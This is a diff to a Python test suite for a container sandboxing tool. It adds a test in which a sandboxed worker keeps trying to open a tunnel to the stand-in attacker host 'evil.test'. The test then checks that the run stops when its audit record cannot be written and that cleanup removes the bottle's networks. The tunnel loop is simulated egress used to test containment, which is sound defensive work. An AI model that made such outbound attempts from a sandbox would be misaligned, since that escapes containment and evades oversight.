@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import os
+import resource
 import shutil
 import signal
 import subprocess
@@ -14,7 +15,7 @@ from bottle.backends.docker import root_label
 from tests.conftest import SYSTEM_DIRS
 from tests.parts.bottle_backends import Scene
 from tests.parts.bottle_engine import IMAGE, BottleEngine
-from tests.parts.bottle_running import egress_environment, processes_with
+from tests.parts.bottle_running import SCRIPT_HEAD, egress_environment, processes_with
 from tests.parts.docker_stage import bottles_on, engine_of, home_of, running_in
 from tests.parts.docker_stage import stage as stage  # a fixture, found by name
 from tests.parts.waiting import eventually_now
@@ -173,6 +174,29 @@ def test_lc1_with_its_record_goes_what_a_bottle_left_on_another_host_s_engine(st
     assert f"removed {identity}\n" in bottles.command("cleanup", "--all").stdout
     assert engine.labelled("network", label) == engine.labelled("ps", label) == []
     assert list((tmp_path / "far").iterdir()) == []
+
+
+ASKING = """
+while True:
+    try: tunnel('evil.test')
+    except OSError: pass
+"""
+
+
+def test_without_room_for_its_audit_a_bottle_ends_and_cleanup_takes_its_networks(stage: Scene, tmp_path: Path) -> None:
+    """What can't be written down isn't done, and that is also said of the networks' end."""
+    engine = engine_of(stage)
+    bottles = bottles_on(stage, tmp_path / "home")
+    launcher = bottles.begin("worker", ["/usr/bin/python3", "-c", SCRIPT_HEAD + ASKING])
+    (identity,) = running_in(bottles)
+    resource.prlimit(launcher.pid, resource.RLIMIT_FSIZE, (0, 0))  # no file of the launcher's grows any more
+    _, stderr = launcher.communicate(timeout=60)
+    assert launcher.returncode in (1, 3), stderr  # as the record that fails is the bundle's or the launcher's own
+    assert "hint: no audit, no run" in stderr
+    label = f"bottle.identity={identity}"
+    assert engine.labelled("ps", label) == []
+    assert bottles.command("cleanup").stdout == f"removed the containers and networks of {identity}\n"
+    assert engine.labelled("network", label) == []
 
 
 @pytest.mark.attack("PX30", backend="docker")
